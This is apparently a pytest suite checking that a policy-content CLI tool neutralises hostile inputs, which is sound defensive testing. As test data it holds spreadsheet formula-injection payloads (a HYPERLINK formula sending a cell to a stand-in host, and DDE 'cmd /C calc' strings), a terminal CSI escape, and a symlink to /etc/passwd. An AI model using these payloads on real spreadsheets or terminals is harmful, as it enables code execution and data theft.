"""Hostile files and text stay inert (issue 19): each attack a hostile author or file can make ends in one line
naming the path and the cause, a non-zero exit, no traceback and nothing overwritten; text reaching a terminal or a
spreadsheet cannot act there; disguised avoided terms are found. The attacks with files of their own are in
tests/fixtures/hostile/ (expected.yaml says what each must answer)."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from csec_cli import CSEC, REPO, copy_layers, run_csec

HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile"
GOOD = Path(__file__).resolve().parent / "fixtures" / "good"
EXPECTED = yaml.safe_load((HOSTILE / "expected.yaml").read_text(encoding="utf-8"))
TRACEBACK = "Traceback"


def _one_line(result: subprocess.CompletedProcess) -> str:
    lines = result.stderr.splitlines() + result.stdout.splitlines()
    problems = [line for line in lines if not re.fullmatch(r"\d+ problems? found", line)]
    assert len(problems) == 1, result.stdout + result.stderr
    return problems[0]


# --- the wording check reads what a reader sees ---------------------------------------------------------------

@pytest.mark.parametrize("name", sorted(EXPECTED["content"]))
def test_a_disguised_avoided_term_is_found_where_it_is_written(tmp_path, name):
    expected = EXPECTED["content"][name]
    root = tmp_path / "repo"
    shutil.copytree(GOOD, root)
    shutil.copy(HOSTILE / "content" / name, root / "content" / "policy" / name)
    result = run_csec("validate", str(root))
    assert result.returncode == 1
    line = _one_line(result)
    assert line.startswith(f"content/policy/{name}:{expected['line']}:{expected['col']}: "), line
    assert expected["message_contains"] in line


# --- records: bounded, regular files only ---------------------------------------------------------------------

def _make_record(folder: Path, name: str) -> Path:
    path = folder / name
    if name == "fifo.json":
        os.mkfifo(path)
    elif name == "zero.json":
        path.symlink_to("/dev/zero")
    elif name == "deep.json":
        path.write_text("[" * 30_000 + "]" * 30_000, encoding="utf-8")
    elif name == "huge.json":
        with open(path, "wb") as f:
            f.truncate(300 * 1024 * 1024)
    else:
        shutil.copy(HOSTILE / "records" / name, path)
    return path


@pytest.mark.parametrize("name", sorted(EXPECTED["records"]))
def test_a_hostile_record_is_refused_with_one_line(tmp_path, name):
    path = _make_record(tmp_path, name)
    result = run_csec("acknowledgements", str(tmp_path))
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"{path}: "), result.stderr
    assert EXPECTED["records"][name]["message_contains"] in lines[0]
    assert result.stdout == "name,release,acknowledged_at,file\n"


def test_every_hostile_record_has_an_expectation_and_vice_versa():
    files = {p.name for p in (HOSTILE / "records").iterdir()}
    assert files == {n for n, e in EXPECTED["records"].items() if not e.get("generated")}
    files = {p.name for p in (HOSTILE / "content").iterdir()}
    assert files == set(EXPECTED["content"])


def _record(name: str) -> str:
    return json.dumps({"release": "2026-01", "name": name, "acknowledged_at": "2026-01-20T16:04:05.123Z",
                       "page_version": "abc123def456"})


FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


def test_roster_cells_that_a_spreadsheet_would_evaluate_stay_text(tmp_path):
    for i, name in enumerate(FORMULAS):
        (tmp_path / f"r{i}.json").write_text(_record(name), encoding="utf-8")
    (tmp_path / "=2+5.json").write_text(_record("Dana Example"), encoding="utf-8")
    result = run_csec("acknowledgements", str(tmp_path))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(r["name"] for r in rows) == sorted(["Dana Example", *("'" + f for f in FORMULAS)])
    assert "'=2+5.json" in [r["file"] for r in rows]
    for row in rows:  # OWASP: no cell starts with = + - @, tab or carriage return
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values()), row


def test_the_roster_and_the_players_results_csv_neutralise_the_same_characters():
    from csec.core.inert import FORMULA_PREFIXES

    js = (REPO / "csec" / "sphinx" / "player_static" / "csec-player.js").read_text(encoding="utf-8")
    found = re.search(r"function csvCell\(v\) \{.*?if \(/\^\[(.*?)\]/\.test\(s\)\) s = \"'\" \+ s;", js, re.S)
    assert found, "csvCell no longer neutralises formula cells the way this test reads it"
    js_chars = found.group(1).replace("\\-", "-").replace("\\t", "\t").replace("\\r", "\r")
    assert set(js_chars) == set(FORMULA_PREFIXES)


def test_a_record_saved_with_an_upper_case_suffix_is_read(tmp_path):
    (tmp_path / "a.JSON").write_text(_record("Ali Sample"), encoding="utf-8")
    result = run_csec("acknowledgements", str(tmp_path))
    assert result.returncode == 0 and "Ali Sample" in result.stdout


# --- acknowledgements --out writes only what it was asked to ---------------------------------------------------

def test_out_naming_a_content_file_is_refused_and_the_file_kept(tmp_path):
    root = tmp_path / "repo"
    copy_layers(root)
    rules = root / "content" / "policy" / "rules.yaml"
    before = rules.read_bytes()
    (tmp_path / "records").mkdir()
    (tmp_path / "records" / "a.json").write_text(_record("Dana Example"), encoding="utf-8")
    result = run_csec("acknowledgements", str(tmp_path / "records"), "--out", str(rules))
    assert result.returncode == 2
    assert _one_line(result) == f"{rules}: exists and is not a roster csec acknowledgements wrote; choose a new " \
                                "file name"
    assert rules.read_bytes() == before


@pytest.mark.parametrize("target, message", [("folder", "is a folder; --out names the roster file to write"),
                                             ("missing/roster.csv", "folder {parent} does not exist")])
def test_out_naming_a_folder_or_a_missing_folder_is_one_line(tmp_path, target, message):
    (tmp_path / "records").mkdir()
    (tmp_path / "records" / "a.json").write_text(_record("Dana Example"), encoding="utf-8")
    (tmp_path / "folder").mkdir()
    out = tmp_path / target
    result = run_csec("acknowledgements", str(tmp_path / "records"), "--out", str(out))
    assert result.returncode == 2
    assert _one_line(result) == f"{out}: {message.format(parent=out.parent)}"


def test_out_replaces_a_roster_it_wrote(tmp_path):
    (tmp_path / "records").mkdir()
    (tmp_path / "records" / "a.json").write_text(_record("Dana Example"), encoding="utf-8")
    out = tmp_path / "roster.csv"
    assert run_csec("acknowledgements", str(tmp_path / "records"), "--out", str(out)).returncode == 0
    (tmp_path / "records" / "b.json").write_text(_record("Ali Sample"), encoding="utf-8")
    assert run_csec("acknowledgements", str(tmp_path / "records"), "--out", str(out)).returncode == 0
    assert [r["name"] for r in csv.DictReader(out.open(encoding="utf-8"))] == ["Ali Sample", "Dana Example"]


# --- terminals ------------------------------------------------------------------------------------------------

def test_review_shows_control_characters_in_a_reviewer_name_as_escapes(tmp_path):
    root = tmp_path / "repo"
    copy_layers(root)
    file = root / "counties" / "los-angeles" / "content" / "policy" / "investigative-questions.yaml"
    text = file.read_text(encoding="utf-8")
    assert "reviewer: UPE (union)" in text
    # U+009B is the one-byte CSI: a terminal reads it and "2J" as "clear the screen". XML allows it, so it passes
    # validation; the terminal must still see it as text.
    file.write_text(text.replace("reviewer: UPE (union)", 'reviewer: "UPE \\x9b2J (union)"', 1), encoding="utf-8")
    result = subprocess.run([str(CSEC), "review", str(root)], capture_output=True, timeout=60, cwd=REPO)
    assert result.returncode == 0, result.stderr
    assert b"\xc2\x9b" not in result.stdout
    assert b"UPE \\u009b2J (union): 1 item" in result.stdout


def test_json_output_stays_valid_json_when_its_control_characters_are_escaped(tmp_path):
    old, new = tmp_path / "old", tmp_path / "new"
    copy_layers(old)
    copy_layers(new)
    glossary = new / "content" / "policy" / "glossary.yaml"
    text = glossary.read_text(encoding="utf-8")
    assert "term: At risk (of CSE)\n" in text
    glossary.write_text(text.replace("term: At risk (of CSE)\n", 'term: "At risk \\x9b2J (of CSE)"\n', 1),
                        encoding="utf-8")
    result = subprocess.run([str(CSEC), "diff", str(old), str(new), "--json"], capture_output=True, timeout=120,
                            cwd=REPO)
    assert result.returncode == 1, result.stderr  # something changed
    assert b"\xc2\x9b" not in result.stdout  # the terminal never sees the CSI itself
    assert "At risk \x9b2J (of CSE)" in json.dumps(json.loads(result.stdout), ensure_ascii=False)


@pytest.mark.parametrize("args", [("validate",), ("review", "--json")])
def test_a_reader_that_closed_the_pipe_ends_the_command_quietly(tmp_path, args):
    root = tmp_path / "repo"
    copy_layers(root)
    proc = subprocess.Popen([str(CSEC), *args, str(root)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=REPO)
    proc.stdout.close()  # the reader is gone before the first line is written (`| head -0`)
    err = proc.stderr.read()
    assert proc.wait(timeout=120) == 141
    assert err == b"", err.decode()


# --- content files and inputs ---------------------------------------------------------------------------------

def test_a_content_file_with_an_upper_case_suffix_is_reported_not_skipped(tmp_path):
    root = tmp_path / "repo"
    shutil.copytree(GOOD, root)
    (root / "content" / "policy" / "extra.YAML").write_text("definitions: []\n", encoding="utf-8")
    result = run_csec("validate", str(root))
    assert result.returncode == 1
    assert _one_line(result) == ("content/policy/extra.YAML:1:1: a content file's name ends in .yaml or .yml, in "
                                 "lower case; rename it to extra.yaml")


@pytest.mark.parametrize("text, where, message", [
    ('{"facts": {"age": 1e+30}}', "1:12", "fact 'age' must be a whole number (got 1e+30)"),
    ("facts:\n  age: 15\n  frequent_truancy: 'yes'\n", "3:3", "fact 'frequent_truancy' must be true or false"),
    ("facts:\n  age: 15\n  truancy: true\n", "3:3", "unknown fact 'truancy'"),
])
def test_assess_type_errors_name_the_line_and_column(tmp_path, text, where, message):
    facts = tmp_path / "facts.json"
    facts.write_text(text, encoding="utf-8")
    result = run_csec("assess", str(facts))
    assert result.returncode == 2
    line = _one_line(result)
    assert line.startswith(f"{facts}:{where}: {message}"), line


def test_diff_of_a_revision_holding_a_link_out_of_the_folder_is_one_line(tmp_path):
    repo = tmp_path / "repo"
    copy_layers(repo)
    git = ["git", "-C", str(repo), "-c", "user.email=t@example.invalid", "-c", "user.name=t"]
    subprocess.run([*git[:3], "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "one"], check=True)
    (repo / "content" / "policy" / "passwd.yaml").symlink_to("/etc/passwd")
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "two"], check=True)
    result = subprocess.run([str(CSEC), "diff", "HEAD~1", "HEAD"], capture_output=True, text=True, timeout=120,
                            cwd=repo)
    assert result.returncode == 2
    assert TRACEBACK not in result.stderr
    assert _one_line(result) == ("HEAD:content/policy/passwd.yaml: cannot be read as content: a symbolic link to an "
                                 "absolute path (/etc/passwd); links must stay inside the folder")


def test_a_status_a_county_sets_on_a_statewide_item_is_refused_at_the_county_file(tmp_path):
    # A layer owns its items (DESIGN.md): a county amendment may not change a statewide item's status, and the one
    # line naming it points at the county's file, where the status was written.
    root = tmp_path / "repo"
    copy_layers(root)
    amendment = root / "counties" / "los-angeles" / "content" / "policy" / "zz-status.yaml"
    amendment.write_text("definitions:\n  - amends: at-risk\n    status: draft\n", encoding="utf-8")
    result = run_csec("validate", str(root))
    assert result.returncode == 1
    lines = [line for line in result.stdout.splitlines() if "status of statewide definition 'at-risk'" in line]
    assert lines and all(line.startswith("counties/los-angeles/content/policy/zz-status.yaml:3:5:") for line in lines), \
        result.stdout


# --- csec build on a disk that refuses ------------------------------------------------------------------------

def _site_root(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    copy_layers(root)
    for name in ("_config.yml", "_toc.yml"):
        shutil.copy(REPO / name, root / name)
    return root


@pytest.mark.parametrize("error", [
    OSError(errno.EROFS, "Read-only file system", "_build/.lock"),
    shutil.Error([("book/a.md", "_build/html/a.html", "[Errno 28] No space left on device")]),
])
def test_build_on_a_read_only_or_full_disk_is_one_line(tmp_path, monkeypatch, capsys, error):
    from csec import cli
    from csec.site import build as site_build

    def refuse(*_args, **_kwargs):
        raise error

    # The lock is the first write a build makes (EROFS there), the swap's copies the largest (ENOSPC there).
    monkeypatch.setattr(site_build, "build_lock", refuse)
    root = _site_root(tmp_path)
    assert cli.main(["build", str(root)]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert re.fullmatch(r".+: csec build: cannot write: .*(Read-only file system|No space left on device)", lines[0])


def test_build_where_build_is_a_file_is_one_line(tmp_path):
    root = _site_root(tmp_path)
    (root / "_build").write_text("not a folder\n", encoding="utf-8")
    result = run_csec("build", str(root))
    assert result.returncode == 1
    assert _one_line(result).endswith(": csec build: cannot write: File exists")
    assert (root / "_build").read_text(encoding="utf-8") == "not a folder\n"
